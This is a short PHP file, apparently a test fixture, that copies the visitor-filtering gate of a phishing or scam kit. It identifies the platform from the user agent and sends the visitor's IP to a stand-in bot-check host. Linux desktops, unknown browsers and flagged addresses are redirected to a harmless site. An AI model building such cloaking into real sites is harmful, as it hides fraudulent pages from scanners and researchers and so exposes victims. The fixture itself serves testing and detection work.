<?php
// a kit's gate: Linux desktops, unknown browsers and flagged addresses are sent away
// (written for the tests, never run)
$ua = $_SERVER['HTTP_USER_AGENT'];
function platform_of($ua) {
    foreach (array('/windows/i' => 'Windows', '/android/i' => 'Android', '/iphone/i' => 'iPhone',
                   '/linux/i' => 'Linux') as $rx => $name) {
        if (preg_match($rx, $ua)) {
            return $name;
        }
    }
    return 'unknown';
}
$os = platform_of($ua);
$flag = file_get_contents('https://bots.example.test/check?ip=' . $_SERVER['REMOTE_ADDR']);
if ($flag == 'bot' || $os == 'unknown' || $os == "Linux") {
    die(header('Location: https://www.example.com/'));
}
